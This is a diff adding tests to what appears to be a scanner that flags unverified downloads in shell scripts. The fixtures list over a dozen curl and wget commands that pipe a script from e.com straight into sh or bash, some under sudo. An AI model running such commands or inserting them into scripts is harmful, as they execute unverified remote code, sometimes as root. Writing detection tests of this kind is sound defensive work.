@@ -183,6 +183,35 @@ describe('unverified-downloads verdicts', () => {
     ]);
   });
 
+  it('reads a .sh file as shell whatever wrapper its shebang goes through', () => {
+    for (const shebang of [
+      '#!/bin/env sh -e',
+      '#!/usr/bin/env -S bash -e',
+      '#!/usr/bin/env -i PATH=/bin bash',
+      '#!',
+    ]) {
+      const outcome = runScript(`${shebang}\necho start\ncurl https://e.com/i.sh | sh\n`);
+      expect(outcome.findings).toMatchObject([{ path: 'install.sh', line: 3, severity: 'high' }]);
+    }
+  });
+
+  it('flags a downloader piped into a shell whatever the flags on either side', () => {
+    const lines = [
+      'curl -fsSL --retry 3 https://e.com/i.sh | sudo -E bash -s -- -y',
+      'wget -qO- https://e.com/i.sh | sh',
+      'wget --quiet --output-document=- https://e.com/i.sh | sudo sh -',
+      'curl --proto =https --tlsv1.2 -sSf https://e.com/i.sh | sh -s -- --default-toolchain none -y',
+      'curl -H "Accept: text/plain" -L https://e.com/i.sh | env FOO=1 bash -x',
+      'curl -sSL https://e.com/i.sh | sudo -u builder -H bash',
+      'curl -sSL https://e.com/i.sh | sudo -iu root bash',
+      'curl -sSL https://e.com/i.sh | sudo -E env "PATH=$PATH" bash',
+      'curl -sSL https://e.com/i.sh | bash -eo pipefail',
+      'curl -sSL https://e.com/i.sh | sudo -s',
+    ];
+    const outcome = runScript(lines.join('\n') + '\n');
+    expect(outcome.findings.map((f) => f.line)).toEqual(lines.map((_, i) => i + 1));
+  });
+
   it('survives deeply nested substitutions', () => {
     const nested = `${'$('.repeat(2000)}curl x${')'.repeat(2000)}`;
     expect(() => runScript(`echo ${nested}\n`)).not.toThrow();
